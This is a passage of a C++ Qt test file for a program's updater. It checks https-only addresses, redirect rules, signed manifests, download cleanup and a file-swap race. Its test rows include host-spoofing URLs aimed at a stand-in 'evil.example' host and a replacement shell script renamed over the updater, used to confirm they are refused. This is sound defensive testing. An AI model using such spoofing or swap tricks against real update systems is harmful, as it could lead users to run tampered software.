#include "core/settings/Ini.h"
#include "core/update/UpdateManifest.h"
#include "core/update/UpdaterFetch.h"
#include "core/update/WWWUpdate.h"
#include "support/RawFiles.h"
#include "support/UpdateScenario.h"
#include "ui/window/Widgets.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QPlainTextEdit>
#include <QProcess>
#include <QProgressBar>
#include <QProgressDialog>
#include <QPushButton>
#include <QTcpServer>
#include <QTcpSocket>
#include <QtTest>

#include <sys/stat.h>

#ifdef __SANITIZE_ADDRESS__
// Freed blocks wait in the address sanitizer's quarantine (256 MB by default)
// before their memory is used again; the bound on resident memory below would
// count that as the download's. A small quarantine still catches a use after free.
extern "C" const char *__asan_default_options()
{
    return "quarantine_size_mb=8";
}
#endif

using namespace testing;
using Outcome = UpdateScenario::Outcome;
Q_DECLARE_METATYPE(wwwupdate::AddressCheck)
Q_DECLARE_METATYPE(wwwupdate::DownloadStatus)
Q_DECLARE_METATYPE(wwwupdate::ManifestStatus)

namespace {

// A figure of /proc/self/status in bytes ("VmRSS", "VmHWM").
qint64 memoryFigure(const char *name)
{
    QFile status(QStringLiteral("/proc/self/status"));
    if (!status.open(QIODevice::ReadOnly))
        return -1;
    for (const QByteArray &line : status.readAll().split('\n')) {
        if (line.startsWith(QByteArray(name) + ':'))
            return line.mid(qstrlen(name) + 1).trimmed().split(' ').value(0).toLongLong() * 1024;
    }
    return -1;
}

} // namespace

class WWWUpdateTest : public QObject {
    Q_OBJECT
private slots:
    void joinPath_data();
    void joinPath();
    void onlyHttpsOrLoopbackHttpIsAllowed_data();
    void onlyHttpsOrLoopbackHttpIsAllowed();
    void updaterGetsOneArgumentPerMarker_data();
    void updaterGetsOneArgumentPerMarker();
    void serverAddressWithTrailingSlashGivesNoDoubleSlash();
    void downloadIntoDirectoryUsesTheAddressFileName();
    void downloadNamesWhyItFailed_data();
    void downloadNamesWhyItFailed();

    void missingUpdaterIsFetchedMadeExecutableAndStarted();
    void failedDownloadLeavesNoFileAndReports_data();
    void failedDownloadLeavesNoFileAndReports();
    void cancelledDownloadLeavesNoFile();
    void presentUpdaterIsStartedWithoutDownload();
    void insecureAddressIsRefusedBeforeAnything_data();
    void insecureAddressIsRefusedBeforeAnything();
    void unsavedNamesAnswerDecidesWhetherTheProgramEnds_data();
    void unsavedNamesAnswerDecidesWhetherTheProgramEnds();
    void typedNamesAreAskedAboutBeforeTheProgramEnds_data();
    void typedNamesAreAskedAboutBeforeTheProgramEnds();
    void vanishedUpdaterIsReportedNotFound();
    void updaterSwappedAfterItsCheckIsNeverStarted();
    void updaterThatCannotStartKeepsTheProgramRunning();
    void clickOnLabelUsesTheConfiguredServer();
    void installedProgramLeavesUpdatesToThePackageManager();
    void closingTheWindowDuringDownloadLeavesNoFile();

    void redirectNeverLeadsToPlainHttp_data();
    void redirectNeverLeadsToPlainHttp();
    void versionsCompareByTheirNumbers_data();
    void versionsCompareByTheirNumbers();
    void manifestNotSignedByOurKeyIsRefused_data();
    void manifestNotSignedByOurKeyIsRefused();
    void releaseThatIsNotSignedNewerAndExactIsRefused_data();
    void releaseThatIsNotSignedNewerAndExactIsRefused();
    void buildWithoutKeyRefusesToUpdate_data();
    void buildWithoutKeyRefusesToUpdate();
    void storedUpdaterFailingItsManifestIsNeverStarted_data();
    void storedUpdaterFailingItsManifestIsNeverStarted();
    void updaterChangedWhileAskingIsNotStarted();
    void hugeResponseStopsAtTheLimitInLittleMemory_data();
    void hugeResponseStopsAtTheLimitInLittleMemory();
    void unexpectedBytesAreNeverPutInPlace_data();
    void unexpectedBytesAreNeverPutInPlace();
    void storedFilesAreOwnerOnlyWhateverTheUmask();
    void tricklingServerMeetsTheDeadline();
};

void WWWUpdateTest::joinPath_data()
{
    QTest::addColumn<QString>("dir");
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("joined");
    QTest::newRow("empty directory gives the name") << ""
                                                    << "Update"
                                                    << "Update";
    QTest::newRow("separator added") << "/opt/namora"
                                     << "Update"
                                     << "/opt/namora/Update";
    QTest::newRow("no doubled separator") << "/opt/namora/"
                                          << "Update"
                                          << "/opt/namora/Update";
    QTest::newRow("blanks kept") << "/my dir"
                                 << "a b"
                                 << "/my dir/a b";
}

void WWWUpdateTest::joinPath()
{
    QFETCH(QString, dir);
    QFETCH(QString, name);
    QTEST(wwwupdate::JoinPath(dir, name), "joined");
}

void WWWUpdateTest::onlyHttpsOrLoopbackHttpIsAllowed_data()
{
    using C = wwwupdate::AddressCheck;
    QTest::addColumn<QString>("address");
    QTest::addColumn<C>("check");
    QTest::newRow("https remote") << "https://update.example.org/Update.exe" << C::Allowed;
    QTest::newRow("https in capitals") << "HTTPS://update.example.org/Update.exe" << C::Allowed;
    QTest::newRow("http loopback v4") << "http://127.0.0.1:8080/Update.exe" << C::Allowed;
    QTest::newRow("http loopback range") << "http://127.9.9.9/Update.exe" << C::Allowed;
    QTest::newRow("http loopback v6") << "http://[::1]:8080/Update.exe" << C::Allowed;
    QTest::newRow("http localhost") << "http://localhost/Update.exe" << C::Allowed;
    QTest::newRow("http remote") << "http://update.example.org/Update.exe" << C::Insecure;
    QTest::newRow("http LAN address") << "http://192.168.1.10/Update.exe" << C::Insecure;
    QTest::newRow("loopback-looking name") << "http://127.0.0.1.evil.example/U" << C::Insecure;
    QTest::newRow("localhost-looking name") << "http://localhost.evil.example/U" << C::Insecure;
    QTest::newRow("user part hides the host") << "http://127.0.0.1@evil.example/U" << C::Insecure;
    QTest::newRow("ftp") << "ftp://update.example.org/Update.exe" << C::Insecure;
    QTest::newRow("no host") << "https:///Update.exe" << C::Invalid;
    QTest::newRow("local file") << "file:///tmp/Update.exe" << C::Invalid;
    QTest::newRow("empty") << "" << C::Invalid;
}

void WWWUpdateTest::onlyHttpsOrLoopbackHttpIsAllowed()
{
    QFETCH(QString, address);
    QTEST(wwwupdate::checkAddress(QUrl(address, QUrl::StrictMode)), "check");
}

void WWWUpdateTest::updaterGetsOneArgumentPerMarker_data()
{
    QTest::addColumn<QString>("programFile");
    QTest::addColumn<QString>("extra");
    QTest::addColumn<QStringList>("args");
    const QString url = QStringLiteral("https://u.example/Namora/Namora.exe");
    QTest::newRow("no extra") << "namora"
                              << ""
                              << QStringList{QStringLiteral("[URL]") + url, QStringLiteral("[PATH]namora")};
    QTest::newRow("blank extra is left out")
        << "namora"
        << "   " << QStringList{QStringLiteral("[URL]") + url, QStringLiteral("[PATH]namora")};
    QTest::newRow("extra kept unchanged")
        << "namora"
        << " -x "
        << QStringList{QStringLiteral("[URL]") + url, QStringLiteral("[PARAM1]  -x "),
                       QStringLiteral("[PATH]namora")};
    QTest::newRow("file name with blank stays whole")
        << "my namora"
        << "" << QStringList{QStringLiteral("[URL]") + url, QStringLiteral("[PATH]my namora")};
}

void WWWUpdateTest::updaterGetsOneArgumentPerMarker()
{
    QFETCH(QString, programFile);
    QFETCH(QString, extra);
    QTEST(wwwupdate::updaterArguments(QStringLiteral("https://u.example/Namora/Namora.exe"), programFile,
                                      extra),
          "args");
}

void WWWUpdateTest::serverAddressWithTrailingSlashGivesNoDoubleSlash()
{
    const auto v = wwwupdate::updateValues(QStringLiteral(" https://u.example/ "), QStringLiteral("/opt/n"),
                                           QStringLiteral("namora"));
    QCOMPARE(v.programUrl, QStringLiteral("https://u.example/Namora/Namora.exe"));
    QCOMPARE(v.updaterUrl, QStringLiteral("https://u.example/Update.exe"));
    QCOMPARE(v.updaterPath, QStringLiteral("/opt/n/") + wwwupdate::UpdaterFileName);
    QCOMPARE(v.programFile, QStringLiteral("namora"));
    QVERIFY(v.extra.isEmpty());
    const auto odd = wwwupdate::updateValues(QStringLiteral("https://u.example"), QStringLiteral("/opt/a\\b"),
                                             QStringLiteral("namora"));
    QCOMPARE(odd.updaterPath, QStringLiteral("/opt/a\\b/") + wwwupdate::UpdaterFileName);
}

void WWWUpdateTest::downloadIntoDirectoryUsesTheAddressFileName()
{
    TinyServer server;
    server.route("/files/tool.bin", {"200 OK", "payload"});
    QTemporaryDir dir;
    wwwupdate::URLDownload download;
    QSignalSpy done(&download, &wwwupdate::URLDownload::finished);
    download.start(QUrl(server.base() + QStringLiteral("/files/tool.bin")),
                   QLatin1Char('"') + dir.path() + QLatin1Char('"'));
    QVERIFY(done.wait(10000));
    const auto result = done.first().first().value<wwwupdate::DownloadResult>();
    QVERIFY2(result.ok(), qPrintable(result.reason));
    QCOMPARE(result.path, dir.path() + QStringLiteral("/tool.bin"));
    QCOMPARE(filesIn(dir.path()), QStringList{QStringLiteral("tool.bin")});
}

void WWWUpdateTest::downloadNamesWhyItFailed_data()
{
    using S = wwwupdate::DownloadStatus;
    QTest::addColumn<QByteArray>("status");
    QTest::addColumn<QByteArray>("body");
    QTest::addColumn<qint64>("claimed");
    QTest::addColumn<QByteArray>("headers");
    QTest::addColumn<bool>("stall");
    QTest::addColumn<S>("expected");
    QTest::newRow("404") << QByteArray("404 Not Found") << QByteArray("x") << -1ll << QByteArray() << false
                         << S::HttpError;
    QTest::newRow("stall") << QByteArray("200 OK") << QByteArray() << -1ll << QByteArray() << true
                           << S::TimedOut;
    QTest::newRow("empty") << QByteArray("200 OK") << QByteArray() << -1ll << QByteArray() << false
                           << S::Incomplete;
    QTest::newRow("redirect to remote http")
        << QByteArray("302 Found") << QByteArray() << -1ll
        << QByteArray("Location: http://update.example.org/U\r\n") << false << S::Refused;
    QTest::newRow("cut short") << QByteArray("200 OK") << QByteArray("abc") << 5000ll << QByteArray() << false
                               << S::Incomplete;
    QTest::newRow("redirect on this computer") << QByteArray("302 Found") << QByteArray() << -1ll
                                               << QByteArray("Location: /real\r\n") << false << S::Done;
    QTest::newRow("redirect loop") << QByteArray("302 Found") << QByteArray() << -1ll
                                   << QByteArray("Location: /U\r\n") << false << S::RedirectLoop;
    QTest::newRow("redirect chain without end")
        << QByteArray("302 Found") << QByteArray() << -1ll << QByteArray("Location: /c1\r\n") << false
        << S::RedirectLoop;
    QTest::newRow("redirect to plain http of another server on this computer")
        << QByteArray("302 Found") << QByteArray() << -1ll
        << QByteArray("Location: http://127.0.0.1:{other}/real\r\n") << false << S::Refused;
    QTest::newRow("announced beyond the limit")
        << QByteArray("200 OK") << QByteArray("abc") << 200000ll << QByteArray() << true << S::TooLarge;
}

void WWWUpdateTest::downloadNamesWhyItFailed()
{
    QFETCH(QByteArray, status);
    QFETCH(QByteArray, body);
    QFETCH(qint64, claimed);
    QFETCH(QByteArray, headers);
    QFETCH(bool, stall);
    QFETCH(wwwupdate::DownloadStatus, expected);
    TinyServer server;
    TinyServer other;
    other.route("/real", {"200 OK", "real"});
    headers.replace("{other}", QByteArray::number(QUrl(other.base()).port()));
    server.route("/U", {status, body, claimed, headers, stall});
    server.route("/real", {"200 OK", "real"});
    for (int i = 1; i <= 20; ++i)
        server.route("/c" + QByteArray::number(i),
                     {"302 Found", {}, -1, "Location: /c" + QByteArray::number(i + 1) + "\r\n"});
    QTemporaryDir dir;
    wwwupdate::URLDownload download;
    download.setTimeout(300);
    download.setLimit(100000);
    QSignalSpy done(&download, &wwwupdate::URLDownload::finished);
    download.start(QUrl(server.base() + QStringLiteral("/U")), dir.filePath(QStringLiteral("U")));
    QVERIFY(done.wait(10000));
    const auto result = done.first().first().value<wwwupdate::DownloadResult>();
    QVERIFY2(result.status == expected, qPrintable(result.reason));
    QCOMPARE(filesIn(dir.path()).size(), expected == wwwupdate::DownloadStatus::Done ? 1 : 0);
    QVERIFY(other.requested().isEmpty());
}

void WWWUpdateTest::missingUpdaterIsFetchedMadeExecutableAndStarted()
{
    UpdateScenario s;
    // Large enough to arrive in several pieces.
    const QByteArray body = UpdaterScript + "#" + QByteArray(300000, 'x') + "\n";
    s.publisher.serve(*s.server, body);

    QCOMPARE(s.update(), Outcome::Started);
    QCOMPARE(s.ended, 1);
    QVERIFY(s.boxes.shown().isEmpty());
    QCOMPARE(filesIn(s.programDir), storedPair());
    QCOMPARE(contentOf(s.v.updaterPath), body);
    QCOMPARE(contentOf(wwwupdate::manifestPathFor(s.v.updaterPath)), s.publisher.manifest(body));
    QVERIFY(QFileInfo(s.v.updaterPath).isExecutable());
    const auto *progress = s.fixture.form->findChild<QProgressDialog *>(QStringLiteral("UpdateProgress"));
    QVERIFY(!progress || !progress->isVisible());

    QCOMPARE(s.recorder.starts.size(), 1);
    QCOMPARE(s.recorder.starts[0].program, s.v.updaterPath);
    QCOMPARE(s.recorder.starts[0].content, body);
    const QStringList expected{QStringLiteral("[URL]") + s.base + QStringLiteral("/Namora/Namora.exe"),
                               QStringLiteral("[PATH]namora")};
    QCOMPARE(s.recorder.starts[0].args, expected);

    // The fetched file really runs and receives exactly these arguments.
    QCOMPARE(QProcess::execute(s.v.updaterPath, expected), 0);
    QFile out(s.programDir + QStringLiteral("/args.txt"));
    QVERIFY(out.open(QIODevice::ReadOnly));
    QCOMPARE(QString::fromUtf8(out.readAll()), expected.join(QLatin1Char('\n')) + QLatin1Char('\n'));
}

void WWWUpdateTest::failedDownloadLeavesNoFileAndReports_data()
{
    QTest::addColumn<QString>("kind");
    QTest::newRow("404") << "404";
    QTest::newRow("server error") << "500";
    QTest::newRow("connection refused") << "refused";
    QTest::newRow("server stalls") << "stall";
    QTest::newRow("transfer cut short") << "short";
    QTest::newRow("empty file") << "empty";
    QTest::newRow("redirect to plain http elsewhere") << "redirect";
    QTest::newRow("program directory gone") << "nodir";
    QTest::newRow("manifest: server error") << "manifest500";
    QTest::newRow("manifest: server stalls") << "manifeststall";
}

void WWWUpdateTest::failedDownloadLeavesNoFileAndReports()
{
    QFETCH(QString, kind);
    UpdateScenario s;
    TinyServer &server = *s.server;
    // The manifest is in order; the updater's download is what fails.
    if (kind == QLatin1String("404"))
        server.route("/Update.exe", {"404 Not Found", "no such file"});
    else if (kind == QLatin1String("500"))
        server.route("/Update.exe", {"500 Internal Server Error", UpdaterScript});
    else if (kind == QLatin1String("stall"))
        server.route("/Update.exe", {"200 OK", {}, -1, {}, true});
    else if (kind == QLatin1String("short")) {
        // The signed file is long; the server announces it whole and closes early.
        const QByteArray whole = UpdaterScript + QByteArray(5000, '#');
        server.route("/Update.manifest", {"200 OK", s.publisher.manifest(whole)});
        server.route("/Update.exe", {"200 OK", UpdaterScript, whole.size()});
    } else if (kind == QLatin1String("empty"))
        server.route("/Update.exe", {"200 OK", {}});
    else if (kind == QLatin1String("redirect"))
        server.route("/Update.exe",
                     {"302 Found", {}, -1, "Location: http://update.example.org/Update.exe\r\n"});
    else if (kind == QLatin1String("manifest500"))
        server.route("/Update.manifest", {"500 Internal Server Error", "oops"});
    else if (kind == QLatin1String("manifeststall"))
        server.route("/Update.manifest", {"200 OK", {}, -1, {}, true});
    else if (kind == QLatin1String("refused"))
        s.stopServer();
    else if (kind == QLatin1String("nodir"))
        QVERIFY(QDir(s.programDir).removeRecursively());
    s.actions->setDownloadTimeout(300);

    QCOMPARE(s.update(), Outcome::DownloadFailed);

    QCOMPARE(filesIn(s.programDir), QStringList());
    QVERIFY(s.recorder.starts.isEmpty());
    QCOMPARE(s.ended, 0);
    QCOMPARE(s.boxes.shown().size(), 1);
    QCOMPARE(s.boxes.shown()[0].prompt, s.v.updaterPath + QStringLiteral("\n\nDownload Failed! "));
    QCOMPARE(s.boxes.shown()[0].style, int(platform::OkCritical));
    QVERIFY(s.boxes.shown()[0].title.isEmpty());
    // The next click tries again rather than finding a broken updater.
    QVERIFY(!s.actions->isUpdating());
}

void WWWUpdateTest::cancelledDownloadLeavesNoFile()
{
    UpdateScenario s;
    // A quarter of the signed file arrives, then the server keeps the line open.
    s.server->route("/Update.manifest", {"200 OK", s.publisher.manifest(QByteArray(4000, '#'))});
    s.server->route("/Update.exe", {"200 OK", QByteArray(1000, '#'), 4000, {}, true});
    QSignalSpy done(s.actions, &UpdateActions::updateFinished);

    QCOMPARE(s.begin(), Outcome::Downloading);
    // The click has returned while the download runs; the dialog offers cancel.
    auto *dialog = s.fixture.form->findChild<QProgressDialog *>(QStringLiteral("UpdateProgress"));
    QVERIFY(dialog);
    QTRY_VERIFY(dialog->isVisible());
    QTRY_COMPARE(s.server->requested().size(), 2);
    auto *bar = dialog->findChild<QProgressBar *>();
    QVERIFY(bar);
    QTRY_COMPARE(bar->value(), 250);
    QCOMPARE(bar->maximum(), 1000);
    QCOMPARE(s.begin(), Outcome::Busy);
    auto *cancel = dialog->findChild<QPushButton *>();
    QVERIFY(cancel);
    QTest::mouseClick(cancel, Qt::LeftButton);

    QVERIFY(done.count() == 1 || done.wait(5000));
    QCOMPARE(done.first().first().value<Outcome>(), Outcome::DownloadFailed);
    QCOMPARE(filesIn(s.programDir), QStringList());
    QVERIFY(s.recorder.starts.isEmpty());
    QCOMPARE(s.ended, 0);
    QCOMPARE(s.boxes.shown().size(), 1);
    QCOMPARE(s.boxes.shown()[0].prompt, s.v.updaterPath + QStringLiteral("\n\nDownload Failed! "));
}

void WWWUpdateTest::presentUpdaterIsStartedWithoutDownload()
{
    // A stored updater that its signed manifest still describes, for a release
    // newer than this program, is started as it is: the server is not asked.
    UpdateScenario s;
    s.publisher.serve(*s.server, "newer");
    s.publisher.store(s.v.updaterPath, "old updater");

    QCOMPARE(s.update(), Outcome::Started);
    QVERIFY(s.server->requested().isEmpty());
    QCOMPARE(s.recorder.starts.size(), 1);
    QCOMPARE(s.recorder.starts[0].program, s.v.updaterPath);
    QCOMPARE(s.recorder.starts[0].content, QByteArray("old updater"));
    QCOMPARE(s.ended, 1);
    QCOMPARE(contentOf(s.v.updaterPath), QByteArray("old updater"));
}

void WWWUpdateTest::insecureAddressIsRefusedBeforeAnything_data()
{
    QTest::addColumn<QString>("server");
    QTest::addColumn<bool>("updaterPresent");
    QTest::newRow("plain http, updater missing") << "http://update.example.org" << false;
    // Even a present updater would fetch the program over plain http.
    QTest::newRow("plain http, updater present") << "http://update.example.org" << true;
    QTest::newRow("ftp") << "ftp://update.example.org" << false;
    QTest::newRow("not an address") << "update server" << false;
}

void WWWUpdateTest::insecureAddressIsRefusedBeforeAnything()
{
    QFETCH(QString, server);
    QFETCH(bool, updaterPresent);
    UpdateScenario s;
    s.v = s.values(server);
    if (updaterPresent)
        s.publisher.store(s.v.updaterPath, UpdaterScript);

    QCOMPARE(s.update(), Outcome::Refused);
    QVERIFY(s.recorder.starts.isEmpty());
    QCOMPARE(s.ended, 0);
    QVERIFY(!s.actions->isUpdating());
    QCOMPARE(filesIn(s.programDir).size(), updaterPresent ? 2 : 0);
    QCOMPARE(s.boxes.shown().size(), 1);
    QVERIFY(s.boxes.shown()[0].prompt.contains(QLatin1String("https")));
    QCOMPARE(s.boxes.shown()[0].style, int(platform::OkCritical));
}

void WWWUpdateTest::unsavedNamesAnswerDecidesWhetherTheProgramEnds_data()
{
    QTest::addColumn<int>("answer"); // 0: no name typed, so nothing to ask
    QTest::addColumn<bool>("downloaded");
    QTest::addColumn<Outcome>("outcome");
    QTest::newRow("cancel keeps the program") << int(platform::AnswerCancel) << false << Outcome::Cancelled;
    QTest::newRow("cancel after download") << int(platform::AnswerCancel) << true << Outcome::Cancelled;
    QTest::newRow("saved names go on") << int(platform::AnswerYes) << false << Outcome::Started;
    QTest::newRow("discarded names go on") << int(platform::AnswerNo) << true << Outcome::Started;
    QTest::newRow("nothing pending goes on") << 0 << false << Outcome::Started;
}

void WWWUpdateTest::unsavedNamesAnswerDecidesWhetherTheProgramEnds()
{
    QFETCH(int, answer);
    QFETCH(bool, downloaded);
    QFETCH(Outcome, outcome);
    UpdateScenario s;
    if (!downloaded)
        s.publisher.store(s.v.updaterPath, UpdaterScript);
    // A picture on the page, with a typed name unless nothing is to be asked.
    s.pictureOnPage(answer != 0 ? QStringLiteral("Urlaub") : QString());
    int asked = 0;
    s.onQuestion([&] {
        ++asked;
        // Nothing may have been started before the user has answered.
        [&] { QVERIFY(s.recorder.starts.isEmpty()); }();
        return answer;
    });

    QCOMPARE(s.update(), outcome);
    QCOMPARE(asked, answer != 0 ? 1 : 0);
    const bool started = outcome == Outcome::Started;
    QCOMPARE(s.recorder.starts.size(), started ? 1 : 0);
    QCOMPARE(s.ended, started ? 1 : 0);
    QCOMPARE(QFile::exists(s.fixture.programDir.filePath(QStringLiteral("Urlaub.jpg"))),
             answer == platform::AnswerYes);
}

void WWWUpdateTest::typedNamesAreAskedAboutBeforeTheProgramEnds_data()
{
    QTest::addColumn<int>("answer");
    QTest::addColumn<bool>("started");
    QTest::addColumn<QString>("fileAfter");
    QTest::newRow("cancel") << int(platform::AnswerCancel) << false << "a.jpg";
    QTest::newRow("no") << int(platform::AnswerNo) << true << "a.jpg";
    QTest::newRow("yes saves first") << int(platform::AnswerYes) << true << "Urlaub.jpg";
}

void WWWUpdateTest::typedNamesAreAskedAboutBeforeTheProgramEnds()
{
    QFETCH(int, answer);
    QFETCH(bool, started);
    QFETCH(QString, fileAfter);
    // The window starts on a directory with a picture whose name is then typed.
    UpdateScenario s(UpdateScenario::Window::NotYet);
    writePictures(s.fixture.pictureDir.path(), {QStringLiteral("a.jpg")});
    s.startWindow(QStringLiteral("<pictures>"));
    s.fixture.form->controls().Text1[0]->setPlainText(QStringLiteral("Urlaub"));
    s.v = s.values(UnaskedServer);
    s.publisher.store(s.v.updaterPath, UpdaterScript);
    s.boxes.answer(answer);

    s.begin();
    QVERIFY(!s.boxes.shown().isEmpty());
    QCOMPARE(s.boxes.shown()[0].style, int(platform::YesNoCancelQuestion));
    QCOMPARE(s.recorder.starts.size(), started ? 1 : 0);
    QCOMPARE(s.ended, started ? 1 : 0);
    QVERIFY(QFile::exists(s.fixture.pictureDir.filePath(fileAfter)));
}

void WWWUpdateTest::vanishedUpdaterIsReportedNotFound()
{
    UpdateScenario s;
    s.v = s.values(UnaskedServer);
    s.publisher.store(s.v.updaterPath, UpdaterScript);
    // The updater goes away while the user answers the question.
    s.pictureOnPage(QStringLiteral("getippt"));
    s.onQuestion([&] {
        QFile::remove(s.v.updaterPath);
        return int(platform::AnswerNo);
    });

    QCOMPARE(s.update(), Outcome::NotFound);
    QVERIFY(s.recorder.starts.isEmpty());
    QCOMPARE(s.ended, 0);
    const QList<platform::MessageRequest> &shown = s.boxes.shown();
    QCOMPARE(shown.size(), 2);
    QCOMPARE(shown[1].prompt, s.v.updaterPath + QStringLiteral(" not found!\nUpdate Cancled!"));
    QCOMPARE(shown[1].title, QStringLiteral("File not found!"));
    QCOMPARE(shown[1].style, int(platform::OkCritical));
}

void WWWUpdateTest::updaterSwappedAfterItsCheckIsNeverStarted()
{
    UpdateScenario s;
    s.v = s.values(UnaskedServer);
    s.publisher.store(s.v.updaterPath, UpdaterScript);
    // Between the last check and the start another file is renamed over the
    // checked one.
    const QByteArray evil = "#!/bin/sh\necho evil\n";
    s.actions->afterCheck = [&] {
        const QString other = s.v.updaterPath + QStringLiteral(".other");
        writeFile(other, evil);
        QVERIFY(::rename(QFile::encodeName(other).constData(),
                         QFile::encodeName(s.v.updaterPath).constData()) == 0);
    };
    QCOMPARE(s.update(), Outcome::Started);
    QCOMPARE(s.recorder.starts.size(), 1);
    QCOMPARE(s.recorder.starts[0].content, UpdaterScript);
    QCOMPARE(contentOf(s.v.updaterPath), evil);
}

void WWWUpdateTest::updaterThatCannotStartKeepsTheProgramRunning()
{
    UpdateScenario s;
    s.recorder.succeed = false;
    s.v = s.values(UnaskedServer);
    s.publisher.store(s.v.updaterPath, UpdaterScript);

    QCOMPARE(s.update(), Outcome::StartFailed);
    QCOMPARE(s.recorder.starts.size(), 1);
    QCOMPARE(s.ended, 0);
    QCOMPARE(s.boxes.shown().size(), 1);
    QVERIFY(s.boxes.shown()[0].prompt.startsWith(s.v.updaterPath));
}

void WWWUpdateTest::clickOnLabelUsesTheConfiguredServer()
{
    UpdateScenario s(UpdateScenario::Window::NotYet);
    s.fixture.writeSettings(QStringLiteral("[Einstellungen]\r\nUpdateServer=") + s.base +
                            QStringLiteral("/\r\n"));
    s.startWindow();
    // A reader that cannot read this file is a fault, not a reason to skip.
    QCOMPARE(ini::IniRead(QStringLiteral("Einstellungen"), QStringLiteral("UpdateServer"),
                          s.fixture.iniPath(), QString()),
             s.base + QLatin1Char('/'));

    QTest::mouseClick(s.fixture.form->controls().Label1, Qt::LeftButton);
    QTRY_COMPARE_WITH_TIMEOUT(s.ended, 1, 10000);
    const QString updater = s.fixture.programDir.path() + QLatin1Char('/') + wwwupdate::UpdaterFileName;
    QVERIFY(QFileInfo(updater).isExecutable());
    QCOMPARE(s.recorder.starts.size(), 1);
    QCOMPARE(s.recorder.starts[0].program, updater);
    QCOMPARE(s.recorder.starts[0].args,
             QStringList(
                 {QStringLiteral("[URL]") + s.base + QStringLiteral("/Namora/Namora.exe"),
                  QStringLiteral("[PATH]") + QFileInfo(QCoreApplication::applicationFilePath()).fileName()}));
    QVERIFY(s.boxes.shown().isEmpty());
}

void WWWUpdateTest::installedProgramLeavesUpdatesToThePackageManager()
{
    UpdateScenario s;
    s.actions->setInstalledProgram(true);
    QTest::mouseClick(s.fixture.form->controls().Label1, Qt::LeftButton);
    QTest::qWait(100);
    QCOMPARE(s.boxes.notices().size(), 1);
    QVERIFY(s.boxes.notices().first().prompt.contains(QStringLiteral("Paketverwaltung des Systems")));
    QVERIFY(s.server->requested().isEmpty());
    QCOMPARE(filesIn(s.programDir), QStringList());
    QVERIFY(s.recorder.starts.isEmpty());
    QCOMPARE(s.ended, 0);
}

void WWWUpdateTest::closingTheWindowDuringDownloadLeavesNoFile()
{
    UpdateScenario s;
    s.server->route("/Update.exe", {"200 OK", {}, -1, {}, true});
    QCOMPARE(s.begin(), Outcome::Downloading);
    QTRY_COMPARE(s.server->requested().size(), 2);

    s.fixture.form->close();
    QVERIFY(!s.actions->isUpdating());
    QCOMPARE(filesIn(s.programDir), QStringList());
    QVERIFY(s.boxes.shown().isEmpty());
    QVERIFY(s.recorder.starts.isEmpty());
    QCOMPARE(s.ended, 0);
}

void WWWUpdateTest::redirectNeverLeadsToPlainHttp_data()
{
    using C = wwwupdate::AddressCheck;
    QTest::addColumn<QString>("origin");
    QTest::addColumn<QString>("target");
    QTest::addColumn<C>("check");
    QTest::newRow("https to another https server") << "https://u.example/U"
                                                   << "https://cdn.example/U" << C::Allowed;
    QTest::newRow("https to plain http on this computer") << "https://u.example/U"
                                                          << "http://127.0.0.1:8080/U" << C::Insecure;
    QTest::newRow("https to plain http localhost") << "https://u.example/U"
                                                   << "http://localhost/U" << C::Insecure;
    QTest::newRow("https to plain http elsewhere") << "https://u.example/U"
                                                   << "http://u.example/U" << C::Insecure;
    QTest::newRow("loopback http within its own server") << "http://127.0.0.1:8080/U"
                                                         << "http://127.0.0.1:8080/real" << C::Allowed;
    QTest::newRow("loopback http to another port") << "http://127.0.0.1:8080/U"
                                                   << "http://127.0.0.1:9090/U" << C::Insecure;
    QTest::newRow("loopback http to another loopback name") << "http://127.0.0.1:8080/U"
                                                            << "http://localhost:8080/U" << C::Insecure;
    QTest::newRow("loopback http to https") << "http://127.0.0.1:8080/U"
                                            << "https://u.example/U" << C::Allowed;
    QTest::newRow("remote http origin to itself") << "http://u.example/U"
                                                  << "http://u.example/real" << C::Insecure;
    QTest::newRow("https to ftp") << "https://u.example/U"
                                  << "ftp://u.example/U" << C::Insecure;
    QTest::newRow("https to a local file") << "https://u.example/U"
                                           << "file:///tmp/U" << C::Invalid;
}

void WWWUpdateTest::redirectNeverLeadsToPlainHttp()
{
    QFETCH(QString, origin);
    QFETCH(QString, target);
    QTEST(wwwupdate::checkRedirect(QUrl(origin, QUrl::StrictMode), QUrl(target, QUrl::StrictMode)), "check");
}

void WWWUpdateTest::versionsCompareByTheirNumbers_data()
{
    QTest::addColumn<QString>("a");
    QTest::addColumn<QString>("b");
    QTest::addColumn<int>("order");
    QTest::newRow("numbers, not text") << "1.10"
                                       << "1.9" << 1;
    QTest::newRow("missing parts are zero") << "1.3"
                                            << "1.3.0" << 0;
    QTest::newRow("first part decides") << "2"
                                        << "1.99.99" << 1;
    QTest::newRow("older") << "1.2.9"
                           << "1.3" << -1;
    QTest::newRow("leading zeros") << "01.03"
                                   << "1.3" << 0;
}

void WWWUpdateTest::versionsCompareByTheirNumbers()
{
    QFETCH(QString, a);
    QFETCH(QString, b);
    QFETCH(int, order);
    QCOMPARE(qBound(-1, wwwupdate::compareVersions(a, b), 1), order);
    QCOMPARE(qBound(-1, wwwupdate::compareVersions(b, a), 1), -order);
}

void WWWUpdateTest::manifestNotSignedByOurKeyIsRefused_data()
{
    using M = wwwupdate::ManifestStatus;
    const wwwupdate::SigningKey ours = wwwupdate::makeSigningKey();
    const wwwupdate::SigningKey theirs = wwwupdate::makeSigningKey();
    QVERIFY(ours.isValid() && theirs.isValid());
    const QByteArray hash(64, 'a');
    const QByteArray lines =
        "namora-update 1\nversion 2.0\nupdater 10 " + hash + "\nprogram 20 " + hash + "\n";
    const QByteArray good = wwwupdate::signText(lines, ours.seed);
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QByteArray>("key");
    QTest::addColumn<M>("status");

    QTest::newRow("signed by our key") << good << ours.publicKey << M::Valid;
    QTest::newRow("no key in this build") << good << QByteArray() << M::NoKey;
    QTest::newRow("a key one byte short") << good << ours.publicKey.left(31) << M::NoKey;
    QTest::newRow("a key one byte long") << good << ours.publicKey + QByteArray(1, '\0') << M::NoKey;
    QTest::newRow("no signature line") << lines << ours.publicKey << M::Unsigned;
    QTest::newRow("empty") << QByteArray() << ours.publicKey << M::Unsigned;
    QTest::newRow("signed by another key")
        << wwwupdate::signText(lines, theirs.seed) << ours.publicKey << M::BadSignature;
    QByteArray raised = good;
    raised.replace("version 2.0", "version 9.0");
    QTest::newRow("version raised after signing") << raised << ours.publicKey << M::BadSignature;
    QByteArray resized = good;
